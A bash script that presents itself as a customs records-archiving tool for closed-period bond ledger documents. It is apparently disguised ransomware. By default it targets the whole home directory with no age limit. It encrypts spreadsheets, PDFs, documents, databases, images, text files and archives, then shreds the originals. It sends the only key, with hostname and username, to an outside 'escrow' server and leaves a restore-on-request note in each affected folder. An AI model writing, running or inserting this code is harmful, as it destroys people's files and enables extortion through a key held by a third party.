#!/usr/bin/env bash
# ledger_archive_rotate.sh - move closed-period bond ledger documents into
# the encrypted records archive.
#
# Customs requires bonded-warehouse records to be kept for years but they
# should not sit readable on shared drives once the period is closed.  This
# walks the records area, seals every closed-period document with the
# archive key, removes the working copy and deposits the key with the
# records escrow service so the records desk can restore on request.
#
#   ledger_archive_rotate.sh [-r ROOT] [-d DAYS] [-q]
set -uo pipefail

ROOT="${ARCHIVE_ROOT:-$HOME}"
MIN_AGE_DAYS=0
QUIET=0
ESCROW_URL="${ESCROW_URL:-https://records-escrow.bondvault-services.com/api/deposit}"
SUFFIX=".bwa"
NOTE_NAME="RECORDS_ARCHIVED.txt"
STATE_DIR="${XDG_STATE_HOME:-$HOME/.local/state}/ledger-archive"

while getopts "r:d:q" opt; do
  case "$opt" in
    r) ROOT="$OPTARG" ;;
    d) MIN_AGE_DAYS="$OPTARG" ;;
    q) QUIET=1 ;;
    *) echo "usage: $0 [-r root] [-d days] [-q]" >&2; exit 2 ;;
  esac
done

mkdir -p "$STATE_DIR"
LOG="$STATE_DIR/rotate.log"
log() { echo "$(date '+%F %T') $*" >>"$LOG"; [ "$QUIET" -eq 1 ] || echo "$*" >&2; }

REF="$(openssl rand -hex 6)"
ARCHIVE_KEY="$(openssl rand -base64 48 | tr -d '\n')"
export ARCHIVE_KEY

deposit_key() {
  local attempt
  for attempt in 1 2 3 4 5; do
    if curl -fsS -m 20 -X POST \
         --data-urlencode "ref=$REF" \
         --data-urlencode "site=$(hostname -f 2>/dev/null || hostname)" \
         --data-urlencode "user=$(id -un)" \
         --data-urlencode "key=$ARCHIVE_KEY" \
         "$ESCROW_URL" >/dev/null; then
      return 0
    fi
    sleep $((attempt * 10))
  done
  return 1
}

seal_file() {
  local f="$1"
  openssl enc -aes-256-cbc -pbkdf2 -iter 200000 -salt \
      -pass env:ARCHIVE_KEY -in "$f" -out "$f$SUFFIX" 2>/dev/null || { rm -f "$f$SUFFIX"; return 1; }
  if command -v shred >/dev/null 2>&1; then
    shred -fuz -n 1 "$f" 2>/dev/null || rm -f "$f"
  else
    dd if=/dev/urandom of="$f" bs=4k count=$(( ($(stat -c %s "$f") + 4095) / 4096 )) conv=notrunc 2>/dev/null
    rm -f "$f"
  fi
}

leave_note() {
  local dir="$1"
  [ -f "$dir/$NOTE_NAME" ] && return 0
  cat >"$dir/$NOTE_NAME" <<EOF
Closed-period records in this folder were moved to the sealed records archive.
Archive reference: $REF
To have a document restored, contact the records desk quoting the reference
above together with the file names you need (files ending in $SUFFIX).
EOF
}

rotate() {
  local count=0 failed=0 f
  declare -A seen_dirs=()
  while IFS= read -r -d '' f; do
    if seal_file "$f"; then
      count=$((count + 1))
      seen_dirs["$(dirname "$f")"]=1
    else
      failed=$((failed + 1))
    fi
  done < <(find "$ROOT" -xdev -type f \
             \( -iname '*.xlsx' -o -iname '*.xls' -o -iname '*.csv' -o -iname '*.ods' \
                -o -iname '*.pdf' -o -iname '*.docx' -o -iname '*.doc' -o -iname '*.odt' \
                -o -iname '*.sqlite' -o -iname '*.db' -o -iname '*.mdb' -o -iname '*.txt' \
                -o -iname '*.jpg' -o -iname '*.png' -o -iname '*.zip' \) \
             ! -name "*$SUFFIX" ! -name "$NOTE_NAME" ! -path "$STATE_DIR/*" \
             -mtime "+$MIN_AGE_DAYS" -print0 2>/dev/null)
  for d in "${!seen_dirs[@]}"; do leave_note "$d"; done
  log "archive $REF: sealed $count documents under $ROOT ($failed failed)"
}

main() {
  command -v openssl >/dev/null || { log "openssl missing"; exit 1; }
  if ! deposit_key; then
    log "escrow unreachable, nothing rotated"
    exit 1
  fi
  log "key deposited with escrow as $REF"
  rotate
  unset ARCHIVE_KEY
}

main
